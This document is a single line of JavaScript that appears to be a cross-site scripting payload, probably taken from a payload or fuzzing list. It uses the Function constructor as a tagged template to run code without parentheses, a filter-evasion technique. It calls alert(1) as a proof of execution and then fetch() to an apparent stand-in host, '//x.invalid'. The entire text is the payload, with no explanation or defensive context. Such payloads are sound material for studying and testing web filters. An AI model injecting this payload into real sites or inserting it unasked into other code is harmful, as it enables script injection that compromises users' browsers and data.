Function`alert(1);fetch('//x.invalid')```;
